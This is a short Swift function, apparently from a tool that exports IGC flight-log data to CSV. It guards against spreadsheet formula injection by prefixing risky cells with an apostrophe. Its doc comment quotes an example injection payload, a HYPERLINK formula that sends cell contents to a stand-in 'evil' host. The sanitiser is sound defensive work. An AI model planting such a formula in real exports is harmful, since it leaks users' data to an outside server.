/// A CSV cell that a spreadsheet shows as text, never runs as a formula.
///
/// Excel, LibreOffice and Google Sheets treat a cell starting with `=`, `+`, `-` or `@` as a formula (and a leading
/// tab or carriage return is dropped before that check), so `=HYPERLINK("http://evil/?"&A1,"click")` in a pilot
/// name from an IGC header would run when the CSV is opened. As OWASP recommends, such a cell gets a leading `'`,
/// which the spreadsheet shows as text. A plain signed number or UTC offset (`-12`, `+02:00`, `-0.5`) is left alone:
/// it cannot call anything, and the apostrophe would make it text.
package func spreadsheetSafe(_ text: String) -> String {
    guard let first = text.unicodeScalars.first, "=+-@\t\r".unicodeScalars.contains(first) else { return text }
    let rest = text.unicodeScalars.dropFirst()
    let isNumber =
        (first == "-" || first == "+") && !rest.isEmpty && rest.first != ":"
        && rest.allSatisfy { ("0"..."9").contains($0) || $0 == "." || $0 == ":" }
    return isNumber ? text : "'" + text
}
